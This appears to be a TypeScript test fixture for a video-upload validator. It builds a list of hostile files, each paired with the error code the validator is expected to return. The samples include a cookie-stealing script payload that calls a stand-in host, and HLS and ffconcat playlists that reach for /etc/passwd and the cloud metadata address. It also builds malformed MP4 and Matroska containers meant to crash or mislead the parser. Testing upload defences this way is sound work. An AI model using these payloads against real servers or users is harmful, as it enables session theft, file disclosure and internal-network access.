import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { drawClip, type DrawnClip } from '../video/draw-clip';

/** Codes of which one is told, at once or by the worker; or taken, and what it carried is nowhere in what is shown. */
export type HostileVideoOutcome = { readonly refused: readonly string[] } | { readonly gone: string };

export interface HostileVideo {
  readonly kind: string;
  readonly name: string;
  readonly content: () => Promise<Buffer>;
  readonly outcome: HostileVideoOutcome;
}

const EVIL = '<script>fetch("https://elsewhere.test/"+document.cookie)</script>';
const UNKNOWN = ['MEDIA_KIND_UNKNOWN'];
const UNREADABLE = ['VIDEO_UNREADABLE'];

async function drawn(clip: DrawnClip): Promise<Buffer> {
  const folder = await mkdtemp(join(tmpdir(), 'jiangong-hostile-'));
  try {
    return await readFile(await drawClip(join(folder, 'clip'), clip));
  } finally {
    await rm(folder, { recursive: true, force: true });
  }
}

const plain = (): Promise<Buffer> => drawn({ seconds: 2 });
const refused = (kind: string, name: string, content: () => Promise<Buffer> | Buffer | string, codes: readonly string[]): HostileVideo =>
  ({ kind, name, content: async () => Buffer.from((await content()) as Buffer), outcome: { refused: codes } });
const box = (type: string, content: Buffer | string, size?: number): Buffer => {
  const inner = Buffer.from(content as string, 'latin1');
  const head = Buffer.alloc(8);
  head.writeUInt32BE((size ?? inner.length + 8) >>> 0);
  head.write(type, 4, 'latin1');
  return Buffer.concat([head, inner]);
};
const FTYP = box('ftyp', 'isom\0\0\x02\0isomiso2avc1mp41');

/** The sound clip with a change made where a box of that name begins. */
async function changed(type: string, change: (file: Buffer, at: number) => void): Promise<Buffer> {
  const file = await plain();
  const at = file.indexOf(type, 0, 'latin1');
  if (at < 4) throw new Error(`no box ${type}`);
  change(file, at);
  return file;
}

/** Says two seconds in its head and holds more than three minutes. */
async function liar(): Promise<Buffer> {
  const file = await drawn({ format: 'matroska', seconds: 190, width: 64, height: 48, framesPerSecond: 2, sound: null });
  const at = file.indexOf(Buffer.from([0x44, 0x89, 0x88]));
  if (at < 0) throw new Error('no duration in the head');
  file.writeDoubleBE(2_000, at + 3);
  return file;
}

/** What poses as a video, breaks off, lies about itself, or carries more than pictures and sound. */
export const hostileVideos: readonly HostileVideo[] = [
  refused('a playlist that names a file of the server', '焊接.mp4', () => '#EXTM3U\n#EXTINF:10,\nfile:///etc/passwd\n#EXT-X-ENDLIST\n', UNKNOWN),
  refused('a playlist that names an inner address', '焊接.mp4', () => '#EXTM3U\n#EXTINF:10,\nhttp://169.254.169.254/latest/meta-data/\n', UNKNOWN),
  refused('a playlist behind the first box of a video', '焊接.mp4', () => Buffer.concat([FTYP, Buffer.from('#EXTM3U\n#EXTINF:1,\nfile:///etc/passwd\n')]), UNREADABLE),
  refused('a playlist inside the box of the pictures', '焊接.mp4', () => Buffer.concat([FTYP, box('mdat', '#EXTM3U\n#EXTINF:1,\nfile:///etc/passwd\n')]), UNREADABLE),
  refused('a script of parts to be joined', '焊接.mp4', () => 'ffconcat version 1.0\nfile /etc/passwd\n', UNKNOWN),
  refused('a manifest in XML', '焊接.mp4', () => '<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011"><BaseURL>file:///etc/</BaseURL></MPD>', UNKNOWN),
  refused('a page', '焊接.mov', () => `<html>${EVIL}</html>`, UNKNOWN),
  refused('a session description', '焊接.mp4', () => 'v=0\no=- 0 0 IN IP4 127.0.0.1\nc=IN IP4 127.0.0.1\nm=video 5004 RTP/AVP 96\n', UNKNOWN),
  refused('an AVI that carries a playlist as subtitles', '焊接.avi', () => Buffer.concat([Buffer.from('RIFF\0\0\0\0AVI LIST'), Buffer.from('GAB2\0#EXTM3U\nfile:///etc/passwd')]), UNKNOWN),
  refused('a flash video', '焊接.mp4', () => Buffer.from('FLV\x01\x05\0\0\0\x09\0\0\0\0', 'latin1'), UNKNOWN),
  refused('a transport stream', '焊接.mp4', () => Buffer.alloc(188 * 20, 0x47), UNKNOWN),
  refused('a still picture in a video’s boxes', '焊接.mp4', () => Buffer.concat([box('ftyp', 'heic\0\0\0\0mif1heic'), box('meta', '\0\0\0\0')]), UNKNOWN),
  refused('a first box and nothing else', '焊接.mp4', () => FTYP, UNREADABLE),
  refused('a box that says it is larger than the file', '焊接.mp4', () => Buffer.concat([FTYP, box('moov', 'x', 0xfffffff0)]), UNREADABLE),
  refused('boxes in boxes, five thousand deep', '焊接.mp4', () => Buffer.concat([FTYP, Array.from({ length: 5_000 }).reduce<Buffer>((inner) => box('moov', inner), Buffer.alloc(0))]), UNREADABLE),
  refused('Matroska’s first bytes and noise', '焊接.mkv', () => Buffer.concat([Buffer.from([0x1a, 0x45, 0xdf, 0xa3]), Buffer.from(Array.from({ length: 4_096 }, (_, at) => (at * 89) & 0xff))]), UNREADABLE),
  refused('cut off before its index', '焊接.mp4', async () => (await plain()).subarray(0, 900), UNREADABLE),
  refused('an index that points beyond the file', '焊接.mp4', () => changed('stco', (file, at) => file.fill(0xf0, at + 12, at + 12 + 4 * file.readUInt32BE(at + 8))), [...UNREADABLE, 'VIDEO_TOO_SHORT']),
  refused('an index of four thousand million pieces', '焊接.mp4', () => changed('stsz', (file, at) => file.writeUInt32BE(0xffffffff, at + 12)), [...UNREADABLE, 'VIDEO_TOO_SHORT', 'VIDEO_TOO_HEAVY']),
  refused('noise where the pictures should be', '焊接.mp4', () => changed('mdat', (file, at) => {
    for (let place = at + 4; place < file.indexOf('moov') - 4; place++) file[place] = (place * 31) & 0xff;
  }), [...UNREADABLE, 'VIDEO_TOO_SHORT']),
  refused('a picture wider than any screen', '焊接.mkv', () => drawn({ format: 'matroska', picture: 'mjpeg', graph: 'color=s=9000x64:r=5:d=1', sound: null }), ['VIDEO_PICTURE_TOO_LARGE']),
  refused('one picture and no more', '焊接.mp4', () => drawn({ seconds: 0.04, sound: null }), ['VIDEO_TOO_SHORT']),
  refused('five hundred pictures a second', '焊接.mkv', () => drawn({ format: 'matroska', picture: 'mjpeg', framesPerSecond: 500, width: 64, height: 48, seconds: 1, sound: null }), UNREADABLE),
  refused('more than three minutes', '焊接.mp4', () => drawn({ seconds: 190, width: 64, height: 48, framesPerSecond: 2, sound: null }), ['VIDEO_TOO_LONG']),
  refused('two seconds by its head and three minutes by its pictures', '焊接.mkv', liar, ['VIDEO_TOO_LONG']),
  { kind: 'a page behind the video', name: '焊接.mp4', content: async () => Buffer.concat([await plain(), Buffer.from(EVIL)]), outcome: { gone: EVIL } },
  { kind: 'a page in a box nobody reads', name: '焊接.mp4', content: async () => Buffer.concat([await plain(), box('free', EVIL)]), outcome: { gone: EVIL } },
  { kind: 'an archive behind the video', name: '焊接.mkv', content: async () => Buffer.concat([await drawn({ format: 'matroska', seconds: 1 }), Buffer.from('PK\x03\x04archive-of-programs')]), outcome: { gone: 'archive-of-programs' } },
];
